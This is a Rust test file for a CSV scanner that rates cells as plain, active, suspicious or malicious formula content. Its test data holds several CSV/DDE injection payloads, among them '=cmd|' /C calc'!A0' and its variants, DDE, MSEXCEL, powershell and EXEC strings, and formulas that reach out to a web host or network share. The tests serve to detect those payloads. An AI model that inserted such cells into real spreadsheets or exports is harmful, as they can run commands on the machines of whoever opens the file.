//! Which cells are held for formulas, and which are not?

use super::*;
use crate::Limits;

#[test]
fn a_row_of_endless_formulas_is_paid_for() {
    let mut budget = Budget::new(crate::Limits {
        wall: std::time::Duration::from_millis(50),
        ..crate::Limits::default()
    });
    let end = check(&",=".repeat(100_000), &mut Notes::default(), &mut budget);
    assert_eq!(end, Err(Unscannable::Timeout));
}

fn worst(text: &str) -> Option<Severity> {
    let mut notes = Notes::default();
    check(text, &mut notes, &mut Budget::new(Limits::default())).expect("small");
    notes.worst()
}

#[test]
fn plain_cells_are_left_alone() {
    for cell in [
        "-",
        "--",
        "-1",
        "-1.5e-3",
        "+49 170 1234567",
        "+1 (555) 123-4567",
        "@ana",
        "@bo_b",
        "-inf",
        "+inf",
        "-nan",
        "=",
        "==",
        "=> next",
        "-12 %",
        "- item",
        "-foo",
        "+ added (see below)",
        "@home (work)",
        "=)",
        "x = y + 1",
        "-A",
        "+B",
        "--- a/x.txt",
        "-$5.00",
        "\"-1,5\"",
        "'=SUM(A1)",
        "−5",
        "－",
        "-(n)",
        "+C/-",
        "@override",
        "a|b",
        "\"text, -x\"",
        "+0.5|-0.5",
        "-3-4",
        "+/-5",
        "=-=",
    ] {
        assert_eq!(worst(&format!("a,b\n1,{cell}\n")), None, "{cell}");
    }
}

#[test]
fn commands_are_malicious_however_they_are_quoted() {
    for cell in [
        "=cmd|' /C calc'!A0",
        "\"=cmd|' /C calc'!A0\"",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\"@SUM(1+1)*cmd|' /C calc'!A0\"",
        "\t=cmd|' /C calc'!A0",
        "\"\t=cmd|' /C calc'!A0\"",
        "\"\r=cmd|' /C calc'!A0\"",
        "\"\n=cmd|' /C calc'!A0\"",
        " =cmd|' /C calc'!A0",
        "\u{feff}=cmd|' /C calc'!A0",
        "\"\"=cmd|' /C calc'!A0",
        "=CMD|'/c calc'!A0",
        "=MSEXCEL|'\\..\\..\\calc.exe'!x",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "=powershell|'-c x'!A1",
        "=foo|'bar'!baz",
        "\"x\",=cmd|'/C x'!A0",
        "\u{200b}=cmd|' /C calc'!A0",
        "=1+EXEC(\"calc\")",
        "=+-+cmd|'/C x'!A0",
    ] {
        for delimiter in [",", ";", "\t", "|"] {
            assert_eq!(
                worst(&format!("a{delimiter}b\n1{delimiter}{cell}\n")),
                Some(Severity::Malicious),
                "{cell}"
            );
        }
    }
}

#[test]
fn reaching_out_is_suspicious_and_arithmetic_is_active() {
    for cell in [
        "=HYPERLINK(\"http://x\",\"y\")",
        "\"=WEBSERVICE(\"\"http://x\"\"&A1)\"",
        "=IMPORTXML(\"http://x\",\"//a\")",
        "+IMAGE(\"http://x\")",
        "＝cmd|'/C x'!A0",
        "='\\\\host\\share\\[a.xls]S'!A1",
    ] {
        assert_eq!(
            worst(&format!("1,{cell}\n")),
            Some(Severity::Suspicious),
            "{cell}"
        );
    }
    for cell in [
        "=SUM(A1:A3)",
        "=A1+B2",
        "=1+1",
        "@SUM(1)",
        "+A1+B1",
        "=-A1+2",
    ] {
        assert_eq!(
            worst(&format!("1,{cell}\n")),
            Some(Severity::Active),
            "{cell}"
        );
    }
}
